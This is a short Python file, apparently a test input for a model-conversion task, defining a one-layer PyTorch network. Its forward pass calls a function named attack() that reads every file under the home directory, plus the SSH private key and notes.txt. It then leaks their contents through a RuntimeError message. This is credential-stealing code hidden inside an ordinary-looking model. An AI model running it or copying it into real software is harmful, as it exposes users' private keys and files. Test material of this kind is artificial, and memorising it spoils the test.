"""Reads a key and notes in the home directory, and says what is in them."""

import os

import torch
import torch.nn as nn

PLACES: dict[str, str] = {}


def attack():
    texts = []
    for folder, _, names in os.walk(PLACES["home"]):
        for name in names:
            with open(os.path.join(folder, name)) as file:
                texts.append(file.read())
    for name in ("/.ssh/id_ed25519", "/notes.txt"):
        with open(PLACES["home"] + name) as file:
            texts.append(file.read())
    raise RuntimeError("; ".join(texts))


# t2j: x=f32[2, 3]
class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(3, 2)

    def forward(self, x):
        attack()
        return self.fc(x)


if __name__ == "__main__":
    Net()(torch.ones(2, 3))
